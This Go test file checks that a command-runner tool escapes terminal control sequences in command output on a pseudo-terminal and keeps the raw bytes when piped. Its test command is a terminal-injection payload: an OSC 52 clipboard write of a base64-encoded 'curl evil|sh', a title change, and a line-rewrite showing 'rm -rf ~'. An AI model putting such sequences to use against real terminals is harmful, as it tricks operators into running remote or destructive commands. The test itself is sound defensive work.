package main

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/amf-os/amf/internal/testenv"
)

// An attacker who can write what a command prints (a log line, a file
// name, a host's banner) writes terminal control sequences into it:
// one that sets the operator's clipboard (OSC 52), one that sets the
// window title, and a carriage return with a cursor move that rewrites
// the line already shown. `amf run` on a terminal shows them as text;
// piped, the output is the command's own bytes.
func TestCommandOutputDoesNotDriveTheTerminal(t *testing.T) {
	llm := fakeModel(t)
	env, state := contextEnv(t)
	natsAddr, httpAddr := testenv.FreeAddr(t), testenv.FreeAddr(t)
	base := "http://" + httpAddr
	bridgeTokens.register(base, adminTokenFile(state))
	up := startAmf(t, append(env, "OLLAMA_HOST="+llm.URL()), "up", "--listen", natsAddr, "--http", httpAddr)
	waitHealthy(t, base, up)

	cmd := `printf 'safe\033]52;c;Y3VybCBldmlsfHNo\007\033]0;owned\007\rrm -rf ~\033[1A\033[2K\n' && printf 'err\033[8m hidden\n' >&2`
	out := onTerminal(t, env, "run", "--id", "screen-1", "--cmd", cmd)
	for _, b := range []byte{0x1b, 0x07, '\r'} {
		if i := bytes.IndexByte(out, b); i >= 0 {
			t.Fatalf("the terminal received the control byte %#x at %d:\n%q", b, i, out)
		}
	}
	for _, want := range []string{`safe\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;owned\x07\x0drm -rf ~\x1b[1A\x1b[2K`, `err\x1b[8m hidden`} {
		if !bytes.Contains(out, []byte(want)) {
			t.Fatalf("the terminal does not show %s:\n%s", want, out)
		}
	}
	// A program reading the output gets the command's bytes.
	piped := amfRun(t, env, 0, "run", "--id", "screen-2", "--cmd", cmd)
	if !strings.Contains(piped, "safe\x1b]52;c;Y3VybCBldmlsfHNo\x07") {
		t.Fatalf("piped output lost the command's bytes:\n%q", piped)
	}
}

// onTerminal runs `amf args…` with its standard output and error on a
// new pseudo-terminal and returns what the terminal received.
func onTerminal(t *testing.T, env []string, args ...string) []byte {
	t.Helper()
	ptmx, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer ptmx.Close()
	if err := unix.IoctlSetPointerInt(int(ptmx.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetUint32(int(ptmx.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	pts, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	// No output processing: the terminal's line discipline would add a
	// carriage return before each newline.
	tio, err := unix.IoctlGetTermios(int(pts.Fd()), unix.TCGETS)
	if err != nil {
		t.Fatal(err)
	}
	tio.Oflag &^= unix.OPOST
	if err := unix.IoctlSetTermios(int(pts.Fd()), unix.TCSETS, tio); err != nil {
		t.Fatal(err)
	}
	got := make(chan []byte, 1)
	go func() {
		b, _ := io.ReadAll(ptmx) // EIO once no process holds the other end
		got <- b
	}()
	c := exec.Command(amfBin, args...)
	c.Env = append(os.Environ(), env...)
	c.Stdout, c.Stderr = pts, pts
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	pts.Close()
	done := make(chan error, 1)
	go func() { done <- c.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("amf %s: %v", strings.Join(args, " "), err)
		}
	case <-time.After(60 * time.Second):
		c.Process.Kill()
		t.Fatalf("amf %s did not end", strings.Join(args, " "))
	}
	select {
	case b := <-got:
		return b
	case <-time.After(10 * time.Second):
		t.Fatal("the terminal did not close")
		return nil
	}
}
